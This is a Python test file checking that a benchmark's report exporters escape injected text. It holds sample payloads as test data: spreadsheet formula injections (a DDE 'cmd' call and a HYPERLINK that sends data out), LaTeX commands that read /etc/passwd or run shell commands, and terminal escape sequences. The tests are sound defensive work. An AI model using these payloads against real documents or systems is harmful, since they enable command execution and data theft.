"""Names that spreadsheets, TeX or a page would take for commands."""

import csv
import io
from dataclasses import replace

import pytest

from cvrbench.report import escape_control, escape_formula
from cvrbench.report.comparison import compare
from cvrbench.report.dataset_report import to_csv
from cvrbench.report.tables import Cell, Grid, to_latex, to_markdown
from tests.report.test_comparison import run

FORMULAS = (
    "=1+1",
    '=HYPERLINK("http://x/?"&A1)',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-1+1",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\uff1d1+1",
)
COMMANDS = "\x1b]0;owned\x07\x1b[2J\x9b31m\r\x08\u202egnp\u2028\x85x"


def grid(text: str) -> Grid:
    row = (Cell(text), Cell("-0.5 ± 0.1"))
    return Grid(title=text, headers=("strategy", "AUC"), rows=(row,), last=None, caption=text)


@pytest.mark.parametrize("name", FORMULAS)
def test_no_cell_of_a_csv_file_begins_as_a_formula_does(name):
    record = replace(run("mmoe", 0, 0.7), dataset=name, fingerprint=name, model=name)
    text = to_csv([(c, None) for c in compare([record])])
    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
    assert not [cell for cell in cells if cell[:1] in set("=+-@\t\r\n\uff1d")]
    assert any(name.strip() in cell for cell in cells)


def test_a_negative_number_stays_a_number():
    records = [run("mmoe", seed, auc) for seed, auc in enumerate((0.7, 0.72))]
    metrics = {"valid": {}, "test": {**records[0].metrics["test"], "ctr_regret": -0.5}}
    changed = [replace(record, metrics=metrics) for record in records]
    rows = list(csv.DictReader(io.StringIO(to_csv([(c, None) for c in compare(changed)]))))
    (row,) = [row for row in rows if row["metric"] == "ctr_regret"]
    assert float(row["mean"]) == -0.5


def test_only_what_looks_like_a_formula_gets_an_apostrophe():
    assert [escape_formula(text) for text in ("mmoe", "a=b", "0.5", "")] == [
        "mmoe",
        "a=b",
        "0.5",
        "",
    ]
    assert escape_formula("-0.5 and more") == "'-0.5 and more"


@pytest.mark.parametrize("write", [to_markdown, to_latex])
def test_tables_hold_no_control_characters_and_as_many_lines_as_ever(write):
    text = write(grid(COMMANDS))
    assert all(c.isprintable() or c == "\n" for c in text)
    assert len(text.splitlines()) == len(write(grid("mmoe")).splitlines())


@pytest.mark.parametrize(
    "name", [r"\input{/etc/passwd}", r"\write18{touch canary}", "^^5cinput", "}\\end{table}", "%"]
)
def test_no_command_is_left_in_latex(name):
    row = next(line for line in to_latex(grid(name)).splitlines() if r"\pm" in line)
    cell = row.split(" & ")[0]
    for escaped in (r"\textbackslash{}", r"\textasciicircum{}", r"\{", r"\}", r"\%", r"\_"):
        cell = cell.replace(escaped, "")
    assert not set("\\{}^%$&#_~") & set(cell)


def test_commands_to_a_terminal_are_spelt_out():
    shown = escape_control(COMMANDS)
    assert shown.isprintable()
    assert "owned" in shown
